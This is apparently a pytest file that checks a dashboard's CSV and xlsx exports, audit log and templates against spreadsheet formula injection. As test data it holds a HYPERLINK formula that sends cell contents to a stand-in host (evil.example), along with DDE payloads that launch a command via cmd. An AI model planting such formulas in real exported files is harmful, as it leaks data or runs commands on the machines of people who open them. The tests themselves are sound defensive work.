"""Formula cells: text that a spreadsheet would run (=, +, -, @, a tab or carriage return first)
is neutral in every CSV and xlsx the dashboard writes; numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest
from python_calamine import CalamineWorkbook

from pilotdash import audit, exports
from pilotdash.ingest.plan import prepare
from pilotdash.ingest.templates import template
from pilotdash.spreadsheet import neutral

LEAK = '=HYPERLINK("http://evil.example/leak?d="&B3,"Open details")'
HOSTILE = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_gets_an_apostrophe(text):
    assert neutral(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -5.5, "-12.5", "+3", "-1,234.5", "-3%", "项目", "a=b", "", None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutral(value) == value


def frame():
    return pd.DataFrame({"name_en": HOSTILE, "change": [-5.0, -0.5, 1.0, 2.0, -3.0, 4.0]})


def test_csv_download_cells_cannot_run():
    rows = list(csv.reader(io.StringIO(exports.csv_bytes(frame()).decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE]
    assert [r[1] for r in rows[1:]] == ["-5.0", "-0.5", "1.0", "2.0", "-3.0", "4.0"]


def test_xlsx_download_writes_text_as_text_and_numbers_as_numbers():
    data = exports.xlsx_bytes(frame())
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" not in sheet  # the text is in the shared strings
    values = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert [r[0] for r in values[1:]] == HOSTILE
    assert [r[1] for r in values[1:]] == [-5.0, -0.5, 1.0, 2.0, -3.0, 4.0]


def test_the_audit_log_csv_cells_cannot_run():
    entries = pd.DataFrame({"at": ["2026-07-01"], "who": ["=cmd|' /C calc'!A0"], "action": ["view"],
                            "what": [LEAK], "scope_codes": [["33"]], "detail": ["-x"]})
    rows = list(csv.reader(io.StringIO(audit.as_csv(entries).decode("utf-8-sig"), newline="")))
    assert rows[1][1] == "'=cmd|' /C calc'!A0" and rows[1][3] == "'" + LEAK and rows[1][5] == "'-x"


def test_the_rejected_rows_file_keeps_hostile_cells_from_running(store):
    data = ("project_id,name_zh,name_en,domain,pilot_type,province_code,city,lead_unit,batch_year,"
            "start_date,end_date,status\n"
            f'ZZ-1,x,"{LEAK.replace(chr(34), chr(34) * 2)}",nope,x,33,-1,@u,2026,2026-01-01,2026-12-31,'
            "running\n")
    plan = prepare(store, "projects.csv", data.encode())
    assert plan.counts.rejected == 1
    rows = list(csv.reader(io.StringIO(plan.rejected_file("en").decode("utf-8-sig"), newline="")))
    cells = dict(zip(rows[0], rows[1]))
    assert cells["name_en"] == "'" + LEAK and cells["lead_unit"] == "'@u"
    assert cells["city"] == "-1"  # a number as written stays one


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_templates_are_neutral_too(fmt):
    data = template("readings", "en", fmt, example=True)
    if fmt == "xlsx":
        with zipfile.ZipFile(io.BytesIO(data)) as book:
            assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
    else:
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        assert all(not c.startswith(("=", "+", "@")) for r in rows for c in r)
